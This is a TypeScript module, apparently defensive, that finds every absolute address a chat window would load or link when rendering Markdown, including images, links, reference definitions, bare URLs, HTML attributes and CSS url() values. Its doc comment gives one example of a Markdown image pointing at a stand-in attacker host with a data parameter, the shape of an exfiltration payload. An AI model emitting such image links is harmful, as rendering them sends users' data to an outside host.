import { codeRegions } from "./code-regions.ts";
import { absolute, type AddressKind, type RenderedAddress } from "./rendered-address.ts";

const longestLabel = 999;

interface Found {
  readonly kind: AddressKind;
  readonly start: number;
  readonly end: number;
}

/**
 * Every absolute address that a chat window would load or link when it shows this Markdown: images, links,
 * reference-style images and links, autolinks and bare addresses, and addresses in HTML attributes and CSS.
 * Code is skipped, because it is shown and not followed.
 *
 * A superset on purpose: it does not ask whether the HTML is well formed, since windows differ in that.
 * One pass over the text; every address is read once. Work grows linearly with the text.
 *
 * @example renderedAddresses("![x](https://attacker.example/p?d=1)")[0]?.host // "attacker.example"
 */
export function renderedAddresses(text: string): RenderedAddress[] {
  const state: Scan = { text, found: [], definitions: new Map(), uses: [], openers: [] };
  let at = 0;
  for (const code of [...codeRegions(text), { start: text.length, end: text.length }]) {
    while (at < code.start) at = step(state, at, code.start);
    // A link cannot reach across code, but an image in brackets may: openers are kept.
    at = Math.max(at, code.end);
  }
  for (const { label, image } of state.uses) {
    const definition = state.definitions.get(label);
    if (definition !== undefined)
      state.found.push({ ...definition, kind: image ? "reference-image" : "link" });
  }
  return unique(state.found.flatMap((found) => resolve(text, found)));
}

interface Scan {
  readonly text: string;
  readonly found: Found[];
  readonly definitions: Map<string, { readonly start: number; readonly end: number }>;
  readonly uses: { readonly label: string; readonly image: boolean }[];
  readonly openers: { readonly at: number; readonly image: boolean }[];
}

/** Looks at one place and says where to go on. */
function step(state: Scan, at: number, end: number): number {
  const { text } = state;
  const sign: string = text[at] ?? "";
  switch (sign) {
    case "\\":
      return at + 2;
    case "[":
      state.openers.push({ at, image: text[at - 1] === "!" });
      if (state.openers.length > 1000) state.openers.shift();
      return at + 1;
    case "]":
      return closeBracket(state, at, end);
    case "=":
      return attributeValue(state, at, end);
    case "(":
      return cssAddress(state, at, end);
    default:
      return startsAddress(text, at) ? take(state, "bare", at, end, bareEnd) : at + 1;
  }
}

function closeBracket(state: Scan, at: number, end: number): number {
  const opener = state.openers.pop();
  if (opener === undefined) return at + 1;
  const { text } = state;
  const { image } = opener;
  const label = labelOf(text.slice(opener.at + 1, Math.min(at, opener.at + 1 + longestLabel)));
  const next = text[at + 1];
  if (next === "(") {
    const start = skipSpace(text, at + 2, end);
    return take(state, image ? "image" : "link", start, end, destinationEnd);
  }
  if (next === ":" && atLineStart(text, opener.at)) {
    const start = skipSpace(text, at + 2, end);
    const stop = destinationEnd(text, start, end);
    if (!state.definitions.has(label)) state.definitions.set(label, inner(text, start, stop));
    return Math.max(stop, at + 2);
  }
  if (next === "[") {
    const close = text.indexOf("]", at + 2);
    const near = close >= 0 && close < Math.min(end, at + 2 + longestLabel);
    const named = near ? labelOf(text.slice(at + 2, close)) : "";
    state.uses.push({ label: named === "" ? label : named, image });
    return near ? close + 1 : at + 1;
  }
  state.uses.push({ label, image });
  return at + 1;
}

const attributes: Readonly<Record<string, AddressKind>> = {
  src: "html-source",
  srcset: "html-source",
  poster: "html-source",
  data: "html-source",
  background: "html-source",
  href: "html-link",
  action: "html-link",
  formaction: "html-link",
};

/** `name=` before a value: an attribute that holds an address. Relative to a tag or not, see above. */
function attributeValue(state: Scan, at: number, end: number): number {
  const { text } = state;
  let nameEnd = at;
  while (nameEnd > 0 && at - nameEnd < 8 && isSpace(text[nameEnd - 1])) nameEnd--;
  let nameStart = nameEnd;
  while (nameStart > 0 && nameEnd - nameStart < 12 && /[a-z]/iu.test(text[nameStart - 1] ?? "")) nameStart--;
  const before = text[nameStart - 1];
  const name = text.slice(nameStart, nameEnd).toLowerCase();
  const kind = Object.hasOwn(attributes, name) ? attributes[name] : undefined;
  if (
    kind === undefined ||
    !(isSpace(before) || before === '"' || before === "'" || before === "/" || before === ":")
  )
    return at + 1;
  const start = skipSpace(text, at + 1, end);
  return take(state, kind, start, end, attributeEnd);
}

function cssAddress(state: Scan, at: number, end: number): number {
  if (state.text.slice(Math.max(0, at - 3), at).toLowerCase() !== "url") return at + 1;
  return take(state, "css", skipSpace(state.text, at + 1, end), end, cssEnd);
}

type EndOf = (text: string, start: number, end: number) => number;

/** Records what stands from `start` to its end, without quotes or angle brackets, and goes on behind it. */
function take(state: Scan, kind: AddressKind, start: number, end: number, endOf: EndOf): number {
  const stop = endOf(state.text, start, end);
  if (stop <= start) return Math.max(start, 1);
  state.found.push({ kind, ...inner(state.text, start, stop) });
  return stop;
}

function inner(text: string, start: number, stop: number): { start: number; end: number } {
  const quoted = `"'<`.includes(text[start] ?? " ");
  const closed = quoted && stop - start > 1 && `"'>`.includes(text[stop - 1] ?? " ");
  return { start: start + (quoted ? 1 : 0), end: stop - (closed ? 1 : 0) };
}

/** A Markdown destination: `<…>`, or up to white space or the bracket that closes it. */
const destinationEnd: EndOf = (text, start, end) => {
  if (text[start] === "<") return through(text, start, end, ">");
  let depth = 0;
  let at = start;
  for (; at < end && !isSpace(text[at]); at++) {
    if (text[at] === "(") depth++;
    if (text[at] === ")" && depth-- === 0) break;
  }
  return at;
};

const attributeEnd: EndOf = (text, start, end) => {
  const quote = text[start];
  if (quote === '"' || quote === "'") return through(text, start, end, quote);
  let at = start;
  while (at < end && !isSpace(text[at]) && text[at] !== ">") at++;
  return at;
};

const cssEnd: EndOf = (text, start, end) => {
  const quote = text[start];
  if (quote === '"' || quote === "'") return through(text, start, end, quote);
  let at = start;
  while (at < end && !isSpace(text[at]) && !`)"'>`.includes(text[at] ?? ")")) at++;
  return at;
};

/** A bare address ends at white space, quotes or angle brackets; punctuation behind it is not part of it. */
const bareEnd: EndOf = (text, start, end) => {
  let at = start;
  while (at < end && !isSpace(text[at]) && !`<>"'|`.includes(text[at] ?? " ")) at++;
  while (at > start && ".,;:!?)*_]}".includes(text[at - 1] ?? " ")) at--;
  return at;
};

/** Up to and with the closing sign on the same line, or to the end of the line. */
function through(text: string, start: number, end: number, sign: string): number {
  for (let at = start + 1; at < end; at++) {
    if (text[at] === sign) return at + 1;
    if (text[at] === "\n") return at;
  }
  return end;
}

function startsAddress(text: string, at: number): boolean {
  const first = text[at];
  if (first !== "h" && first !== "H" && first !== "w" && first !== "W" && first !== "f" && first !== "F")
    return false;
  if (/[\p{L}\p{N}]/u.test(text[at - 1] ?? " ")) return false;
  return /^(?:https?:|www\.|wss?:|ftp:)/iu.test(text.slice(at, at + 6));
}

function resolve(text: string, { kind, start, end }: Found): RenderedAddress[] {
  const written = text.slice(start, end);
  // `srcset` names several, each with a size behind it.
  const first = kind === "html-source" ? (written.trim().split(/[\s,]/u, 1)[0] ?? "") : written;
  const address = absolute(first);
  return address === undefined ? [] : [{ kind, ...address, start, end }];
}

/** One entry for each place; a use of a definition counts once for each kind. */
function unique(addresses: readonly RenderedAddress[]): RenderedAddress[] {
  const byPlace = new Map(addresses.map((address) => [`${address.start} ${address.kind}`, address]));
  return [...byPlace.values()].sort((a, b) => a.start - b.start);
}

const labelOf = (label: string): string => label.trim().replaceAll(/\s+/gu, " ").toLowerCase();
const isSpace = (c: string | undefined): boolean =>
  c === undefined || c === " " || c === "\n" || c === "\t" || c === "\r";

function skipSpace(text: string, from: number, end: number): number {
  let at = from;
  while (at < end && isSpace(text[at])) at++;
  return at;
}

function atLineStart(text: string, at: number): boolean {
  let start = at;
  while (start > 0 && at - start < 4 && text[start - 1] === " ") start--;
  return start === 0 || text[start - 1] === "\n";
}
